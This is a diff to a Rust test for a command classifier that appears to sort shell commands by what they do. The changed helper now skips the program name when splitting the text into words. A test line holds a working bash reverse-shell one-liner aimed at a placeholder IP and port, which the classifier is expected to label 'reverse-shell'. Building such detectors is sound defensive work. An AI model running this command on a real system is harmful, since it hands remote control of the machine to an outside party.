@@ -304,7 +304,7 @@ mod tests {
     fn commands_are_told_by_what_they_are_made_of() {
         let table = &Tables::embedded().acts;
         let classes = |program: &str, text: &str, before: &[&str]| {
-            let words: Vec<String> = text.split(' ').map(str::to_owned).collect();
+            let words: Vec<String> = text.split(' ').skip(1).map(str::to_owned).collect();
             table.classes_of(program, &words, text, before)
         };
         assert_eq!(classes("bash", "bash -i >& /dev/tcp/198.51.100.7/443 0>&1", &[]), ["reverse-shell"]);
